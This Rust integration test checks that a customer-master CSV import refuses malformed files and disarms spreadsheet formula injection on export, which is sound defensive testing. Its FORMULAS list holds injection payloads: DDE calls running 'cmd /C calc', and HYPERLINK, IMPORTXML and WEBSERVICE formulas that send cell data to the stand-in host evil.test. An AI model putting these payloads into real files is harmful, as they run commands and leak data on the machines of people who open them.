//! Files that are to become a customer master and are none, or want to run in a spreadsheet: what is wrong is refused as a whole, and what is kept
//! does nothing where it is opened.
//!
//! Surprising: who sent a refused file, and what was wrong with it, is written down at the company's server, which so is the one node that changes.

use futures::stream;
use musubi_proto::company::v1::{
    Customer, ImportCustomersRequest, ImportCustomersResponse, ListCustomersRequest, ListImportsRequest,
    MasterImport, customer_service_client::CustomerServiceClient,
};
use musubi_runtime::grpc::status::from_status;
use musubi_tests::processes::Stored;
use serde_json::Value;
use tonic::Status;

use super::world::{BANK, World};
use crate::people::does;

/// What spreadsheets compute, or try to (OWASP ASVS 1.2.10), and what begins as if.
const FORMULAS: [&str; 22] = [
    "=1+1",
    "=HYPERLINK(\"https://evil.test/?\"&A1,\"残高\")",
    "=cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"https://evil.test/?\",A1),\"//a\")",
    "=WEBSERVICE(\"https://evil.test/\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=\"",
    "==1",
    "=",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@",
    "=1,\"=2\"",
    "=1;=2",
    "=A1&\"\"\"\"",
    "=２＋２",
    "=@+-1",
];

async fn import(
    world: &World,
    parts: impl Iterator<Item = Vec<u8>> + Send + 'static,
) -> Result<ImportCustomersResponse, Status> {
    let parts = parts.map(|chunk| ImportCustomersRequest { dry_run: false, chunk });
    let mut customers = CustomerServiceClient::new(world.system.channel(BANK));
    Ok(customers.import_customers(stream::iter(parts)).await?.into_inner())
}

async fn import_file(world: &World, file: Vec<u8>) -> Result<ImportCustomersResponse, Status> {
    let parts: Vec<_> = file.chunks(100_000).map(<[u8]>::to_vec).collect();
    import(world, parts.into_iter()).await
}

async fn master(world: &World) -> Vec<Customer> {
    let mut customers = CustomerServiceClient::new(world.system.channel(BANK));
    let request = ListCustomersRequest { page_size: 1_000, ..ListCustomersRequest::default() };
    customers.list_customers(request).await.unwrap().into_inner().customers
}

async fn history(world: &World) -> Vec<MasterImport> {
    let mut customers = CustomerServiceClient::new(world.system.channel(BANK));
    customers.list_imports(ListImportsRequest::default()).await.unwrap().into_inner().imports
}

/// What every node but the company's server has stored.
fn elsewhere(world: &World) -> Stored {
    let mut stored = world.system.stored();
    stored.retain(|(node, ..)| *node != BANK);
    stored
}

/// Files that are refused as a whole, by the field that is said to be wrong, and words of what the audit says of it.
fn refused() -> Vec<(&'static str, Vec<u8>, &'static str, &'static str)> {
    let good = String::from_utf8(World::master(BANK)).unwrap();
    let (header, rows) = good.split_once('\n').unwrap();
    let first = rows.lines().next().unwrap();
    let shift_jis = |text: &str| encoding_rs::SHIFT_JIS.encode(text).0.into_owned();
    let utf16 = good.encode_utf16().flat_map(u16::to_le_bytes);
    vec![
        ("nothing", vec![], "file", "it is empty"),
        ("no row", format!("{header}\n").into_bytes(), "file", "a header and no rows"),
        ("no header", rows.as_bytes().to_vec(), "header", "header"),
        ("NULs alone", vec![0; 4_096], "header", "header"),
        ("UTF-16", [&[0xFF, 0xFE][..], &utf16.collect::<Vec<_>>()].concat(), "file", "it is UTF-16"),
        ("two encodings", [good.as_bytes(), &shift_jis(first)].concat(), "file", "is not"),
        ("the other way", [&shift_jis(&good), "𠮷".as_bytes(), b"\xFF\xFF\n"].concat(), "file", "is not"),
        (
            "a column more",
            good.replace("identity_verification\n", "identity_verification,more\n").into_bytes(),
            "header",
            "header",
        ),
        ("a column twice", good.replacen("name_kana", "name", 1).into_bytes(), "header", "header"),
        (
            "a quote that stays open",
            format!("{header}\nA000001,\"{}", rows.repeat(20)).into_bytes(),
            "file",
            "is longer than",
        ),
        (
            "a line without end",
            format!("{header}\nA000001,{}\n", "漏".repeat(100_000)).into_bytes(),
            "file",
            "is longer than",
        ),
        ("a part too large", vec![], "chunk", "bytes in one part"),
        ("a file without end", vec![], "chunk", "the file is larger than"),
    ]
}

/// Files whose rows are bad: the rows are told, and nothing is kept.
fn bad_rows() -> Vec<Vec<u8>> {
    let good = String::from_utf8(World::master(BANK)).unwrap();
    let row = good.lines().nth(1).unwrap();
    let spoilt = |with: &str| good.replacen(row, with, 1).into_bytes();
    vec![
        spoilt(&row.replacen("小川", "小\0川", 1)),
        spoilt(&row.replacen("小川", "小\u{7}川", 1)),
        spoilt(&format!("{row},more,and,more")),
        spoilt(&row.replacen(',', "", 1)),
        spoilt(&row.replacen("小川", "\"小川", 1).replacen("my_number", "\"my_number", 1)),
        spoilt(&row.replacen("小川", &"川".repeat(200), 1)),
    ]
}

/// Everything that is no master is refused, and what is computed elsewhere is not computed here. Gives what the audit has to tell.
pub(super) async fn probe(world: &World) -> Vec<String> {
    let (before, customers, imports) =
        (world.system.quiet().await, master(world).await, history(world).await.len());
    let others: Stored = before.into_iter().filter(|(node, ..)| *node != BANK).collect();
    let mut told = Vec::new();
    for (what, file, field, says) in refused() {
        let endless = [World::master(BANK), vec![b'\n'; 200_000]].concat();
        let answer = match what {
            "a part too large" => import(world, [vec![b'\n'; 256 * 1024 + 1]].into_iter()).await,
            "a file without end" => import(world, std::iter::repeat(endless)).await,
            _ => import_file(world, file).await,
        };
        let Err(status) = answer else { panic!("{what} is taken") };
        let error = from_status(&status);
        assert_eq!(error.field, field, "{what}: {error}");
        assert!(!error.to_string().contains('漏') && !error.remedy.is_empty(), "{what}: {error}");
        told.push(says.to_owned());
    }
    let bad = bad_rows();
    let count = bad.len();
    for file in bad {
        let answer = import_file(world, file).await.unwrap();
        assert!(
            answer.error_count > 0 && answer.added + answer.changed + answer.removed == 0,
            "{} bad rows",
            answer.error_count
        );
        told.push("of them bad".to_owned());
    }
    assert!(master(world).await == customers, "a file that was refused has changed the master");
    assert!(elsewhere(world) == others, "a file that was refused has changed another node");
    let refused = history(world).await;
    assert_eq!(refused.len(), imports + count);
    assert!(refused[..count].iter().all(|it| it.operator == "sato" && it.bad_rows > 0));
    formulas(world, &customers).await;
    told
}

/// A master whose values are formulas keeps them as they are, and no CSV that is written of it has any.
async fn formulas(world: &World, customers: &[Customer]) {
    let mut file = csv::Writer::from_writer(Vec::new());
    file.write_record(csv::Reader::from_reader(&*World::master(BANK)).headers().unwrap()).unwrap();
    for (customer, formula) in customers.iter().zip(FORMULAS.iter().cycle()) {
        let Customer { customer_id, birth_date, branch_number, account_number, .. } = customer;
        file.write_record([
            customer_id.as_str(),
            formula,
            "",
            birth_date,
            formula,
            branch_number,
            account_number,
            formula,
        ])
        .unwrap();
    }
    let file = file.into_inner().unwrap();
    let done = import_file(world, file.clone()).await.unwrap();
    assert_eq!((done.error_count, done.changed), (0, customers.len() as u64), "{} rows", done.rows);
    let list = |format| does(&world.system, BANK, &["customers", "list", "--all", "--format", format]);
    let (exported, kept) = (list("csv"), list("json"));
    let kept: Vec<Value> = serde_json::from_str(&kept).unwrap();
    for (row, formula) in kept.iter().zip(FORMULAS.iter().cycle()) {
        assert!(
            ["name", "address", "identity_verification"].iter().all(|column| row[column] == *formula),
            "{row}"
        );
    }
    let mut cells = 0;
    for row in csv::Reader::from_reader(exported.as_bytes()).into_records() {
        for cell in &row.unwrap() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell} is computed");
            cells += usize::from(cell.starts_with('\''));
        }
    }
    assert_eq!(cells, 3 * customers.len(), "a value of each column that had one is disarmed");
    let again = import_file(world, file).await.unwrap();
    assert_eq!(again.changed, 0, "what was kept is what was sent");
    import_file(world, World::master(BANK)).await.unwrap();
    assert!(master(world).await.iter().zip(customers).all(|(now, before)| now.name == before.name));
}
